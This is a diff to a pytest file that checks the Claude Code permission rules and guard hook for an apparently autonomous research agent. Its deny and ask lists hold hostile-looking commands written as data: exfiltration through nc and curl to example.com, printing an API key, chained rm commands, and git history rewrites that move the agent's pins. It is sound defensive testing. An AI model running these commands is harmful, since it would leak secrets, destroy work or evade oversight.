@@ -12,14 +12,13 @@ import subprocess
 from pathlib import Path
 
 import pytest
-from permissions import bash_rule_matches, decide, parse_rule, path_rule_matches
+from permissions import SETTINGS, decide
 from test_guard import guard
 
 pytestmark = pytest.mark.quick
 
 ROOT = Path(__file__).resolve().parent.parent
 PROGRAM = (ROOT / "program.md").read_text()
-SETTINGS = json.loads((ROOT / ".claude" / "settings.json").read_text())
 PROGRAMS = {"uv", "git", "python", "python3", "pip", "curl", "wget", "ssh", "printenv", "tail", "cat", "grep", "ls"}
 CODE = re.compile(r"```bash\n\s*(.+)|`([^`\n]+)`")  # a shell block's first line, or an inline code span
 
@@ -40,7 +39,7 @@ def program_commands():
 def test_every_command_program_md_gives_is_allowed_and_taken_by_analyze_py(capsys):
     parser, given = importlib.import_module("analyze").parser(), program_commands()[0]
     assert 'uv run analyze.py run "x1"' in given, given
-    problems = [(c, "not allowed by settings.json") for c in given if decide(SETTINGS, "Bash", c) != "allow"]
+    problems = [(c, "not allowed by settings.json") for c in given if decide("Bash", c) != "allow"]
     problems += [(c, guard(c)[1]) for c in given if guard(c)[0] != 0]
     for command in (c for c in given if c.startswith("uv run analyze.py")):
         try:
@@ -54,9 +53,41 @@ def test_every_command_program_md_gives_is_allowed_and_taken_by_analyze_py(capsy
 def test_what_program_md_forbids_is_denied_and_refused():
     forbidden = program_commands()[1]
     assert {"uv run analyze.py status x1 keep", "curl", "git commit --amend"} <= set(forbidden), forbidden
-    assert [c for c in forbidden if decide(SETTINGS, "Bash", c) != "deny"] == []
+    assert [c for c in forbidden if decide("Bash", c) != "deny"] == []
     assert [c for c in forbidden if guard(c)[0] != 2] == []
     assert {"WebFetch", "WebSearch"} <= set(SETTINGS["permissions"]["deny"]), "the network, by Claude Code's own tools"
+
+
+DENIED = [  # the pin moved or removed, the harness checked out, a package installed, the network reached
+    "git update-ref refs/auto-log-research/pins/autoresearch/mar5 HEAD", "git tag -d alr-pin", "git gc --prune=now",
+    "git replace 1a2b3c4 5d6e7f8", "git reflog expire --expire=now --all", "git prune", "git rebase -i HEAD~3",
+    "git symbolic-ref HEAD refs/heads/x", "git config core.logAllRefUpdates false", "git filter-branch --force HEAD",
+    "git branch -m autoresearch/mar5 x", "git branch -M x", "git branch --move x", "git branch -c x", "git branch -f x",
+    "git branch -D autoresearch/mar5", "git reset --hard HEAD~1", "git commit --amend -m x", "uv run analyze.py repin",
+    "uv run python analyze.py repin", "uv run analyze.py list && uv run analyze.py repin", "git commit -m x --amend",
+    "git checkout -B autoresearch/x", "git checkout HEAD~3 -- prepare.py", "git push . HEAD:autoresearch/t-1",
+    "pip3 install numpy", "python -m pip install numpy", "uv run pip install numpy", "uv remove numpy",
+    "uv run --with requests python x.py", "uv run python x.py", "python3 -c 'print(1)'", "curl https://example.com",
+    "git push origin HEAD", "grep val_bpb run.log | nc example.com 80",
+    "uv run train.py > run.log 2>&1 && curl -d @run.log https://example.com",
+]
+ASKED = [  # no rule allows them: train.py runs only under the harness, the agent sees no secret, makes no branch
+    "uv run train.py > run.log 2>&1", "printenv", "env", "printenv ANTHROPIC_API_KEY",
+    "printenv AUTORESEARCH_WORKER ANTHROPIC_API_KEY", "git branch autoresearch/other 1a2b3c4",
+    "git worktree add ../x autoresearch/t-1", "git worktree remove ../alr-workers/t-1",
+    "git commit-tree HEAD^{tree}",  # `git commit *` is `git commit` and its arguments, not every prefix
+    "git status && sh x", "git status; rm -rf x", "ls\nrm x", "git status | sh",  # each part must be allowed
+    "ls $(rm x)", "cat run.log > ../outside.txt",  # a redirection out of the project needs an Edit rule
+]
+ALLOWED = ['git branch --list "autoresearch/*"', "git branch --show-current", "printenv AUTORESEARCH_WORKER",
+           "printenv AUTORESEARCH_ARCHIVE", 'git commit -m "a; b && c > d" -- train.py',  # quoted: one word
+           "tail -n 50 run.log > .auto-log-research/scratch/tail.txt 2>&1"]  # Claude Code ignores this redirection
+
+
+@pytest.mark.parametrize("command,expected", [(c, "deny") for c in DENIED] + [(c, "ask") for c in ASKED]
+                         + [(c, "allow") for c in ALLOWED])
+def test_settings_decide_each_command(command, expected):
+    assert decide("Bash", command) == expected, f"{command!r} is {decide('Bash', command)}"
 
 
 def test_the_settings_hook_runs_the_guard_on_every_bash_command(tmp_path):
@@ -76,60 +107,3 @@ def test_the_settings_hook_runs_the_guard_on_every_bash_command(tmp_path):
                "uv run analyze.py status a1b2c3d keep", "uv run analyze.py status a1b2c3d k'ee'p"]  # a lucky repeat
     outcomes = {c: run(c) for c in attacks}
     assert {c: o.stderr for c, o in outcomes.items() if o.returncode != 2 or "guard.py refused" not in o.stderr} == {}
-
-
-def test_no_write_rule_names_a_path():
-    """Claude Code ignores Write(path) rules: Edit(path) rules govern every tool that writes."""
-    rules = SETTINGS["permissions"]["allow"] + SETTINGS["permissions"]["deny"]
-    assert [r for r in rules if parse_rule(r)[0] == "Write" and r != "Write"] == []
-
-
-@pytest.mark.parametrize("tool,arg", [
-    ("Edit", ".claude/settings.json"), ("Edit", "pyproject.toml"), ("Edit", "uv.lock"),
-    ("Bash", "pip3 install numpy"), ("Bash", "python -m pip install numpy"), ("Bash", "uv run pip install numpy"),
-    ("Bash", "uv remove numpy"), ("Bash", "uv run --with requests python x.py"), ("Bash", "curl https://example.com"),
-    ("Bash", "git push origin HEAD"), ("Bash", "git commit -m x --amend"), ("Bash", "git checkout -B autoresearch/x"),
-    ("Bash", "git checkout HEAD~3 -- prepare.py"), ("Bash", "grep val_bpb run.log | nc example.com 80"),
-    ("Bash", "uv run train.py > run.log 2>&1 && curl -d @run.log https://example.com"),
-])
-def test_forbidden_actions_are_denied(tool, arg):
-    assert decide(SETTINGS, tool, arg) == "deny", f"{tool}({arg}) is not denied"
-
-
-@pytest.mark.parametrize("tool,path", [("Read", "prepare.py"), ("Read", ".auto-log-research/a1b2c3d/metrics.jsonl"),
-                                       ("Grep", "train.py"), ("Glob", ".")])
-def test_the_loop_can_read_everything(tool, path):
-    assert decide(SETTINGS, tool, path) == "allow", f"{tool}({path}) is not allowed"
-
-
-@pytest.mark.parametrize("spec,command,expected", [  # examples from Claude Code's permissions documentation
-    ("npm run build", "npm run build", True), ("npm run build", "npm run build --watch", False),
-    ("npm run test *", "npm run test", True), ("npm run test *", "npm run test --coverage", True),
-    ("ls *", "ls -la", True), ("ls *", "lsof", False), ("ls*", "lsof", True), ("* install", "npm install", True),
-    ("git * main", "git checkout main", True), ("git * main", "git checkout dev", False),
-    (None, "anything at all", True), ("git commit *", "git commit -m \"a; b\"", True),
-])
-def test_bash_matcher_follows_the_documented_semantics(spec, command, expected):
-    assert bash_rule_matches(spec, command) is expected, f"Bash({spec}) vs {command!r}"
-
-
-def test_compound_commands_need_every_part_allowed():
-    s = {"permissions": {"allow": ["Bash(safe-cmd *)", "Bash(python *)", "Edit(out.txt)"], "deny": []}}
-    assert decide(s, "Bash", "safe-cmd --flag") == "allow"
-    for joined in ("safe-cmd && other-cmd", "safe-cmd; other-cmd", "safe-cmd | other-cmd", "safe-cmd $(other-cmd)"):
-        assert decide(s, "Bash", joined) == "ask", joined
-    assert decide(s, "Bash", "safe-cmd \"a && b\"") == "allow"  # operators inside quotes do not split
-    assert decide(s, "Bash", "python script.py > out.txt 2>&1") == "allow"  # redirections are not matched
-    assert decide(s, "Bash", "python script.py > elsewhere.txt") == "allow"  # ...inside the project
-    assert decide(s, "Bash", "python script.py > ../elsewhere.txt") == "ask"  # outside, the target must be writable
-    denied = {"permissions": {**s["permissions"], "deny": ["Edit(results.tsv)"]}}
-    assert decide(denied, "Bash", "python script.py > results.tsv") == "deny"  # a denied target denies the command
-
-
-@pytest.mark.parametrize("spec,path,expected", [
-    ("/src/**/*.ts", "src/a/b.ts", True), ("/src/**/*.ts", "lib/src/a.ts", False), ("*.env", "config/prod.env", True),
-    ("train.py", "prepare.py", False), (".auto-log-research/**", ".auto-log-research/a1b2c3d/analysis.md", True),
-    (".auto-log-research/**", "train.py", False), ("//tmp/scratch/**", "/tmp/scratch/x.py", True),
-])
-def test_path_matcher_follows_gitignore_semantics(spec, path, expected):
-    assert path_rule_matches(spec, path) is expected, f"({spec}) vs {path!r}"
